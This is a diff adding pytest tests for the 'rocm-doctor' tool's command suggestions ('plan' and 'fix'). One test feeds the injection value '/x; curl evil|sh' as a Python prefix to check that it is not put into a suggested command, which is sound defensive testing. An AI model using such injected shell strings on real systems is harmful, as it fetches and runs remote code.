@@ -1,0 +1,42 @@
+"""`rocm-doctor plan` in a finding fits the machine: with the GPU of a capture, and with `fix` where an environment is examined."""
+
+from __future__ import annotations
+
+import pytest
+
+from rocm_doctor.matrix import load
+from rocm_doctor.model import Fact, Gpu, Snapshot, Value
+from rocm_doctor.rules.offers import offered
+
+MATRIX = load()
+
+
+def commands(kind: str, facts: dict[str, Value], gfx: str | None = "gfx1151") -> list[str]:
+    gpus = (Gpu({"gfx": Fact(gfx)}),) if gfx else ()
+    snapshot = Snapshot({name: Fact(value) for name, value in facts.items()}, gpus)
+    typed = MATRIX.typed(["rocm-doctor plan", "uname -r"])
+    return [one.text for one in offered(typed, snapshot, kind, MATRIX)]  # type: ignore[arg-type]
+
+
+def test_a_live_environment_is_offered_fix() -> None:
+    found = commands("machine", {"python.env": "venv", "python.prefix": "/home/me/my venv"})
+    assert found == ["rocm-doctor plan", "rocm-doctor fix --python '/home/me/my venv'", "uname -r"]
+
+
+@pytest.mark.parametrize("env", ["system", "conda", None])
+def test_where_fix_cannot_act_it_is_not_offered(env: str | None) -> None:
+    assert commands("machine", {"python.env": env, "python.prefix": "/usr"}) == ["rocm-doctor plan", "uname -r"]
+
+
+def test_a_capture_names_its_machine() -> None:
+    found = commands("capture", {"platform": "windows", "python.version": "3.12.4"})
+    assert found[0] == "rocm-doctor plan --gpu gfx1151 --os windows --python 3.12"
+    assert commands("capture", {"wsl": True})[0] == "rocm-doctor plan --gpu gfx1151 --os wsl"
+
+
+def test_a_capture_without_a_gpu_keeps_the_plain_command() -> None:
+    assert commands("capture", {"python.version": "3.12.4"}, None)[0] == "rocm-doctor plan"
+
+
+def test_a_prefix_that_is_no_path_is_not_put_into_a_command() -> None:
+    assert commands("machine", {"python.env": "venv", "python.prefix": "/x; curl evil|sh"}) == ["rocm-doctor plan", "uname -r"]
